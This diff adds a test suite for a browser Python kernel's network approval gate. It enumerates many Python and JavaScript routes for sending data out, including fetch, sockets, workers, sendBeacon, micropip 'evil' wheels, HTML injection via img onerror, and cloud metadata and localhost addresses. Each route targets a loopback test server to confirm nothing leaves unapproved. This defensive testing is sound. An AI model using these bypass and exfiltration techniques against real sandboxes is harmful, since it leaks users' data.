@@ -1,0 +1,480 @@
+"""Nothing leaves the kernel before a press: every road of Python and its JavaScript, and a second origin that looks.
+
+The origin on loopback lets everybody read it, so only the surface's walls are between it and the kernel.
+"""
+
+from __future__ import annotations
+
+import json
+import textwrap
+from collections.abc import Generator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+from selenium.webdriver.common.keys import Keys
+
+from gemini_companion.app import Companion
+from gemini_testing import Surface
+from tests.attacks.outside import Outside, outside_on_loopback
+from tests.companions import companion_of, opened_by
+from tests.web.person import Background, Person
+
+ASKED = "document.querySelector('#approval-question')?.checkVisibility()"
+OVER = "'outcome' in calls[arguments[0]]"
+
+
+@dataclass
+class World:
+    surface: Surface
+    outside: Outside
+    companion: Companion
+    person: Person
+
+    def python(self, code: str) -> Background:
+        return Background(self.surface, "python_run", {"code": textwrap.dedent(code)})
+
+    def settled(self, call: Background) -> bool:
+        """Wait until a call is over or the person is asked, and tell whether they are."""
+        return self.surface.wait_for(f"({OVER} && 'over') || ({ASKED} && 'asked')", call.id) == "asked"
+
+    def question(self) -> str:
+        return self.person.sees("#approval-question")
+
+    def answer(self, decision: str) -> None:
+        self.person.click(f"#approval-{decision}")
+
+    def allowed(self, code: str) -> Any:
+        """Run code, allow what it asks for once, and give its value."""
+        call = self.python(code)
+        assert self.settled(call), call.result()
+        self.answer("once")
+        result = call.result()
+        assert "error" not in result, result
+        return result["result"]
+
+
+@pytest.fixture(scope="module")
+def outside() -> Generator[Outside]:
+    with outside_on_loopback() as outside:
+        yield outside
+
+
+@pytest.fixture(scope="module")
+def opened(surface_dist: Path, outside: Outside) -> Generator[World]:
+    with companion_of(surface_dist, network=outside.fetcher()) as companion, opened_by(companion) as surface:
+        yield World(surface, outside, companion, Person(surface))
+
+
+@pytest.fixture
+def world(opened: World) -> World:
+    if opened.surface.javascript(
+        f"return Boolean({ASKED}) || document.querySelector('dialog[open]') !== null"
+    ):
+        # A test that failed has left it open.
+        opened.surface.load()
+    opened.surface.wait_until_ready()
+    opened.outside.forget()
+    return opened
+
+
+def in_javascript(body: str) -> str:
+    """Python that runs JavaScript in the kernel; what gives no sign of its end within a second is left alone."""
+    script = f"(async () => {{ {WITHIN} {body} }})()"
+    return f"from pyodide.code import run_js\nstr(await run_js({script!r}))"
+
+
+WITHIN = (
+    "const within = (promise) => Promise.race([promise, "
+    "new Promise((done) => setTimeout(done, 1000, 'silence'))]);"
+)
+
+
+def nested(source: str) -> str:
+    """Something with messages and errors, made from an address of the test's."""
+    return (
+        f"return await within(new Promise((done, fail) => {{ const made = new {source}; "
+        "const port = made.port ?? made; port.onmessage = ({ data }) => done(data); "
+        "made.onopen = () => done('open'); made.onerror = () => fail(new Error('held')); }))"
+    )
+
+
+FETCHING = "fetch(\\'<url>\\').then(() => (self.postMessage ?? (() => 0))(1))"
+BLOB = f"URL.createObjectURL(new Blob(['{FETCHING}'], {{ type: 'text/javascript' }}))"
+DATA = f"'data:text/javascript,' + encodeURIComponent('{FETCHING}')"
+MICROPIP = "import pyodide_js\nawait pyodide_js.loadPackage('micropip')\nimport micropip\n"
+# What Python names `URL` is the address of the origin that looks.
+PYTHON = {
+    "js.fetch": "import js\nawait js.fetch(URL)",
+    "fetch without CORS": "import js\nfrom pyodide.ffi import to_js\nawait js.fetch(URL, mode='no-cors')",
+    "pyfetch": "from pyodide.http import pyfetch\nawait (await pyfetch(URL)).string()",
+    "pyfetch with a body": "from pyodide.http import pyfetch\nawait pyfetch(URL, method='POST', body='stolen')",
+    "open_url": "from pyodide.http import open_url\nopen_url(URL).read()",
+    "synchronous request": "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', URL, False)\nx.send()",
+    "urllib": "import urllib.request\nurllib.request.urlopen(URL).read()",
+    "urllib with a body": "import urllib.request\nurllib.request.urlopen(URL, data=b'stolen').read()",
+    "http.client": "import http.client\nc = http.client.HTTPConnection(HOST, PORT, timeout=2)\nc.request('GET', '/')",
+    "socket": "import socket\nsocket.create_connection((HOST, PORT), 2)",
+    "asyncio streams": "import asyncio\nawait asyncio.wait_for(asyncio.open_connection(HOST, PORT), 2)",
+    "micropip, a wheel": MICROPIP + "await micropip.install(URL + '/evil-1.0-py3-none-any.whl')",
+    "micropip, an index": MICROPIP + "await micropip.install('evil', index_urls=[URL + '/simple'])",
+    "loadPackage": "import pyodide_js\nawait pyodide_js.loadPackage(URL + '/evil-1.0-py3-none-any.whl')\n1 / 0",
+    "the surface's own client": "from gemini import ffi\nawait ffi.fetch(URL, 'GET', {}, b'')",
+    "a model's endpoint": (
+        "from gemini import ffi\nawait ffi.fetch(URL + '/v1/chat', 'POST', {'authorization': 'Bearer key'}, b'{}')"
+    ),
+}
+JAVASCRIPT = {
+    "fetch": "return (await fetch('<url>')).status",
+    "fetch, kept alive": "return (await fetch('<url>', { method: 'POST', body: 'x', keepalive: true })).status",
+    "the browser's own fetch": (
+        "const own = Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, 'fetch')?.value ?? "
+        "(delete self.fetch, self.fetch); return (await own.call(self, '<url>', { mode: 'no-cors' })).type"
+    ),
+    "the browser's own request": (
+        "const x = new (Object.getPrototypeOf(XMLHttpRequest)); x.open('GET', '<url>', false); x.send(); "
+        "return x.status"
+    ),
+    "WebSocket": nested("WebSocket('ws://<host>')"),
+    "WebSocket, deleted first": "delete self.WebSocket; " + nested("WebSocket('ws://<host>')"),
+    "WebTransport": "const t = new WebTransport('https://<host>'); await within(t.ready); return 'open'",
+    "EventSource": nested("EventSource('<url>')"),
+    "a worker": nested("Worker('<url>/w.js')"),
+    "a module worker": nested("Worker('<url>/w.js', { type: 'module' })"),
+    "a data: worker": nested(f"Worker({DATA})"),
+    "a blob: worker": nested(f"Worker({BLOB})"),
+    "a shared worker": nested("SharedWorker('<url>/w.js')"),
+    "a shared data: worker": nested(f"SharedWorker({DATA})"),
+    "a shared blob: worker": nested(f"SharedWorker({BLOB})"),
+    "importScripts": "importScripts('<url>/w.js'); return 'loaded'",
+    "import": "return await import('<url>/w.js')",
+    "import of data:": f"return await import({DATA})",
+    "import of blob:": f"return await import({BLOB})",
+    "sendBeacon": "return navigator.sendBeacon('<url>', 'stolen')",
+    "a font": "return (await within(new FontFace('stolen', 'url(<url>/f.woff2)').load())).status",
+    "the cache": "await (await caches.open('x')).add('<url>'); return 'kept'",
+    "the cache, without CORS": "await (await caches.open('x')).add(new Request('<url>', { mode: 'no-cors' }))",
+    "WebRTC": (
+        "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:<host>' }] }); c.createDataChannel('x'); "
+        "await c.setLocalDescription(); return 'offered'"
+    ),
+    "a service worker": "return await navigator.serviceWorker.register('<url>/w.js')",
+    "WebAssembly": "return await WebAssembly.compileStreaming(fetch('<url>/x.wasm'))",
+    "a nested worker of the surface's own": (
+        "const w = new Worker(new URL('network_worker.js', location.href)); "
+        "w.postMessage({ networkDoor: { url: '<url>' } }); "
+        "return within(new Promise((done) => { w.onmessage = done; }))"
+    ),
+    "a redirect of the kernel's own origin": "return (await fetch('//<host>/')).status",
+    "a notification's picture": "new Notification('x', { icon: '<url>/icon.png' }); return 'shown'",
+    "a script's report": (
+        "new ReportingObserver(() => 0).observe(); return (await fetch('<url>', { method: 'OPTIONS' })).status"
+    ),
+}
+
+
+@pytest.mark.parametrize("name", PYTHON)
+def test_nothing_leaves_by_python_before_a_press(world: World, name: str) -> None:
+    given = f"HOST, PORT = '127.0.0.1', {world.outside.port}\nURL = {world.outside.url!r}\n"
+    nothing_leaves(world, given + PYTHON[name])
+
+
+@pytest.mark.parametrize("name", JAVASCRIPT)
+def test_nothing_leaves_by_javascript_before_a_press(world: World, name: str) -> None:
+    host = f"127.0.0.1:{world.outside.port}"
+    body = JAVASCRIPT[name].replace("<url>", world.outside.url).replace("<host>", host)
+    nothing_leaves(world, in_javascript(body))
+
+
+def nothing_leaves(world: World, code: str) -> None:
+    call = world.python(code)
+    asked = world.settled(call)
+    assert world.outside.seen() == (0, [])
+    while asked:
+        assert world.outside.url in world.question()
+        world.answer("refuse")
+        world.surface.wait_for(f"{OVER} || !{ASKED}", call.id)
+        asked = world.settled(call)
+        assert world.outside.seen() == (0, [])
+    call.result()
+    assert world.outside.seen() == (0, [])
+
+
+MARKUP = {
+    "a picture": "<img src=URL/x.png>",
+    "pictures by size": "<img srcset='URL/x.png 1x'>",
+    "a style": "<b style='background: url(URL/x.png)'>x</b>",
+    "a style sheet": "<link rel=stylesheet href=URL/x.css><style>@import 'URL/y.css';</style>",
+    "a font": "<style>@font-face { font-family: x; src: url(URL/f.woff2) } * { font-family: x }</style>text",
+    "ahead of need": (
+        "<link rel=prefetch href=URL/a><link rel=preload as=image href=URL/b><link rel=dns-prefetch href=URL>"
+        "<link rel=preconnect href=URL><link rel=prerender href=URL/c><link rel=modulepreload href=URL/d.js>"
+    ),
+    "a picture in SVG": "<svg><image href=URL/x.png /><use href='URL/x.svg#a'/></svg>",
+    "media": "<video src=URL/v poster=URL/p autoplay></video><audio src=URL/a autoplay></audio><track src=URL/t>",
+    "a frame": "<iframe src=URL></iframe><object data=URL></object><embed src=URL>",
+    "a form": "<form action=URL><input name=a value=b autofocus onfocus=form.submit()></form>",
+    "a redirection": "<meta http-equiv=refresh content='0; URL'><base href=URL>",
+    "a script": "<script src=URL/x.js></script><img src=x onerror='fetch(`URL`)'>",
+}
+
+
+@pytest.mark.parametrize("name", MARKUP)
+def test_what_the_console_shows_loads_nothing(world: World, name: str) -> None:
+    markup = MARKUP[name].replace("URL", world.outside.url)
+    person = world.person
+    if not world.surface.javascript("return document.querySelector('#python').checkVisibility()"):
+        person.click("[data-tab-panel-id=python]")
+    person.click("#console-clear")
+    code = f"class Page:\n    def _repr_html_(self): return '<h3>shown</h3>' + {markup!r}\nPage()"
+    fill = "const field = document.querySelector('#console-input'); field.value = arguments[0];"
+    world.surface.javascript(fill, code)
+    person.find("#console-input").send_keys(Keys.CONTROL, Keys.ENTER)
+    person.sees(".console-result h3", "shown")
+    # Pictures are asked for when they are laid out.
+    world.surface.javascript("await new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
+    assert world.outside.seen() == (0, [])
+
+
+def test_no_name_is_looked_up_before_a_press(world: World) -> None:
+    call = world.python("import js\nawait js.fetch('http://stolen-data.outside.test/')")
+    assert world.settled(call), call.result()
+    assert world.outside.names == []
+    world.answer("refuse")
+    assert "refused" in json.dumps(call.result())
+    assert world.outside.names == []
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://127.0.0.1:{main}/tools.json", "http://localhost:{main}/", "http://[::1]:{main}/", "http://2130706433:{main}/",
+        "http://127.0.0.1:{main}/mcp", "http://169.254.169.254/latest/meta-data/", "http://192.168.0.1/",
+        "http://router.local/",
+    ],
+)  # fmt: skip
+def test_this_machine_and_its_network_are_no_subject_for_a_question(world: World, url: str) -> None:
+    port = urlsplit(world.companion.mcp_url).port
+    call = world.python(f"import js\nawait js.fetch({url.format(main=port)!r})")
+    assert not world.settled(call)
+    assert "may not reach" in json.dumps(call.result())
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "return (await fetch(door.replace(/[^/]+$/, 'guessed'), { method: 'POST', headers })).status",
+        "return (await fetch(door, { headers })).status",
+        "return String(await import(door))",
+        "importScripts(door)",
+        nested("Worker(door)"),
+        nested("SharedWorker(door)"),
+        "return await within(new FontFace('x', `url(${door})`).load())",
+        "return (await fetch(door, { method: 'POST', headers, mode: 'no-cors' })).status",
+        "return (await fetch(door, { method: 'POST' })).status",
+    ],
+    ids=[
+        "key",
+        "get",
+        "import",
+        "importScripts",
+        "worker",
+        "shared worker",
+        "font",
+        "no-cors",
+        "undescribed",
+    ],
+)
+def test_the_door_itself_gives_nothing_unasked(world: World, body: str) -> None:
+    key = world.surface.javascript("return sessionStorage.getItem('gemini:companion:page')")
+    described = json.dumps({"url": world.outside.url + "/", "method": "GET"})
+    setting = f"const door = location.origin + '/network/{key}', headers = {{ 'X-Network-Request': {described!r} }};"
+    call = world.python(in_javascript(setting + body))
+    assert not world.settled(call)
+    assert call.result().get("result") != "200"
+    assert world.outside.seen() == (0, [])
+
+
+def test_a_redirect_from_an_allowed_origin_asks_for_the_next_one(world: World) -> None:
+    there = f"{world.outside.second}/stolen?data=1"
+    call = world.python(f"import js\n(await js.fetch('{world.outside.named}/redirect?to={there}')).url")
+    assert world.settled(call) and world.outside.named in world.question()
+    world.answer("once")
+    assert world.outside.second in world.person.sees("#approval-question", world.outside.second)
+    assert world.outside.seen() == (1, [f"GET /redirect?to={there}"])
+    world.answer("refuse")
+    assert "refused" in json.dumps(call.result())
+    assert world.outside.seen() == (1, [f"GET /redirect?to={there}"])
+
+
+# After a press all of them work.
+
+
+def test_fetch_answers_as_if_there_were_no_door(world: World) -> None:
+    told = world.allowed(
+        f"""
+        import js
+        answer = await js.fetch('{world.outside.named}/page?q=1')
+        copy = answer.clone()
+        [answer.status, answer.url, answer.headers.get('x-own'), await answer.text(), copy.url]
+        """
+    )
+    url = f"{world.outside.named}/page?q=1"
+    assert told == [200, url, "yes", "hällo", url]
+    assert world.outside.requests == ["GET /page?q=1"]
+    assert not {"cookie", "referer", "origin"} & world.outside.headers[0].keys()
+
+
+def test_the_question_shows_what_is_sent_and_whose_words_they_are(world: World) -> None:
+    call = world.python(
+        f"from pyodide.http import pyfetch\nawait pyfetch('{world.outside.named}/a', method='POST', body='x' * 2000)"
+    )
+    assert world.settled(call), call.result()
+    question = world.question()
+    assert f"{world.outside.named}/a" in question and "POST" in question and "send data" in question
+    assert "python_run" in world.person.sees("#approval")
+    world.answer("once")
+    call.result()
+    assert world.outside.bodies == [b"x" * 2000]
+
+
+def test_a_synchronous_request_waits_for_the_press(world: World) -> None:
+    told = world.allowed(f"from pyodide.http import open_url\nopen_url('{world.outside.named}/text').read()")
+    assert told == "hällo"
+
+
+def test_requests_of_xmlhttprequest_have_status_headers_and_bytes(world: World) -> None:
+    told = world.allowed(
+        f"""
+        import js
+        from pyodide.ffi import to_js
+        x = js.XMLHttpRequest.new()
+        x.open('PUT', '{world.outside.named}/missing', False)
+        x.responseType = 'arraybuffer'
+        x.setRequestHeader('X-Mine', 'sent')
+        x.send(to_js(b'data'))
+        names = [line.split(':')[0] for line in x.getAllResponseHeaders().split('\\r\\n')]
+        [x.status, x.responseURL, bytes(x.response.to_bytes()).decode(), 'x-own' in names, x.getResponseHeader('X-Own')]
+        """
+    )
+    assert told == [404, f"{world.outside.named}/missing", "not here", True, "yes"]
+    assert world.outside.requests == ["PUT /missing"] and world.outside.bodies == [b"data"]
+    assert world.outside.headers[0]["x-mine"] == "sent"
+
+
+def test_an_asynchronous_request_gets_its_events(world: World) -> None:
+    body = (
+        f"const x = new XMLHttpRequest; x.open('GET', '{world.outside.named}/'); x.send(); "
+        "return await new Promise((done) => Object.assign(x, { onerror: () => done('error'), "
+        "onload: () => done(`load ${x.responseText}`) }))"
+    )
+    assert world.allowed(in_javascript(body)) == "load hällo"
+    call = world.python(in_javascript(body))
+    assert world.settled(call), call.result()
+    world.answer("refuse")
+    assert call.result()["result"] == "error"
+
+
+def test_forms_go_with_their_boundary(world: World) -> None:
+    body = (
+        "const form = new FormData; form.append('a', new Blob(['content']), 'name.txt'); "
+        f"return (await fetch('{world.outside.named}/', {{ method: 'POST', body: form }})).status"
+    )
+    assert world.allowed(in_javascript(body)) == "200"
+    assert b"content" in world.outside.bodies[0]
+    boundary = world.outside.headers[0]["content-type"].partition("boundary=")[2]
+    assert boundary and boundary.encode() in world.outside.bodies[0]
+
+
+def test_urllib_reads_pages_and_errors(world: World) -> None:
+    told = world.allowed(
+        f"""
+        import urllib.request
+        with urllib.request.urlopen('{world.outside.named}/page') as answer:
+            told = [answer.status, answer.headers['X-Own'], answer.read().decode(), answer.url]
+        told
+        """
+    )
+    assert told == [200, "yes", "hällo", f"{world.outside.named}/page"]
+    told = world.allowed(
+        f"""
+        import urllib.error, urllib.request
+        try:
+            urllib.request.urlopen('{world.outside.named}/missing')
+        except urllib.error.HTTPError as error:
+            told = [error.code, error.read().decode()]
+        told
+        """
+    )
+    assert told == [404, "not here"]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import js\nawait js.fetch(URL)",
+        "from pyodide.http import open_url\nopen_url(URL)",
+        "from pyodide.http import pyfetch\nawait pyfetch(URL)",
+        "import urllib.request\nurllib.request.urlopen(URL)",
+        MICROPIP + "await micropip.install(URL + '/thing-1.0-py3-none-any.whl')",
+    ],
+    ids=["fetch", "open_url", "pyfetch", "urllib", "micropip"],
+)
+def test_a_refusal_says_so_wherever_it_arrives(world: World, code: str) -> None:
+    call = world.python(f"URL = '{world.outside.named}'\n{code}")
+    assert world.settled(call), call.result()
+    world.answer("refuse")
+    error = call.result()["error"]
+    assert f"{world.outside.named} was not sent: the person refused" in json.dumps(error)
+
+
+@pytest.mark.parametrize("name", ["WebSocket", "WebTransport", "EventSource"])
+def test_what_stays_shut_says_so(world: World, name: str) -> None:
+    error = world.python(f"import js\njs.{name}.new('https://a.example/')").result()["error"]
+    assert "can't leave the page's Python" in json.dumps(error)
+
+
+def test_micropip_installs_from_an_index_after_its_presses(world: World) -> None:
+    wheel = thing()
+    files = f"{world.outside.named}/files/{wheel.name}"
+    metadata = {
+        "info": {"name": "thing", "version": "1.0"},
+        "releases": {"1.0": [{"filename": wheel.name, "url": files, "digests": {"sha256": wheel.digest}}]},
+    }
+    world.outside.pages["/simple/thing/json"] = ("application/json", json.dumps(metadata).encode())
+    world.outside.pages[f"/files/{wheel.name}"] = ("application/zip", wheel.content)
+    index = f"{world.outside.named}/simple/{{package_name}}/json"
+    call = world.python(
+        f"{MICROPIP}await micropip.install('thing', index_urls=['{index}'])\nimport thing\nthing.value"
+    )
+    assert world.settled(call), call.result()
+    world.answer("run")
+    result = call.result()
+    assert result.get("result") == 42, result
+    assert world.outside.requests == ["GET /simple/thing/json", f"GET /files/{wheel.name}"]
+
+
+@dataclass
+class Wheel:
+    name: str
+    content: bytes
+    digest: str
+
+
+def thing() -> Wheel:
+    """A package of one module, `thing`."""
+    import hashlib
+    import io
+    import zipfile
+
+    about = "thing-1.0.dist-info"
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w") as wheel:
+        wheel.writestr("thing.py", "value = 42")
+        wheel.writestr(f"{about}/METADATA", "Metadata-Version: 2.1\nName: thing\nVersion: 1.0\n")
+        wheel.writestr(f"{about}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        wheel.writestr(f"{about}/RECORD", "")
+    content = made.getvalue()
+    return Wheel("thing-1.0-py3-none-any.whl", content, hashlib.sha256(content).hexdigest())
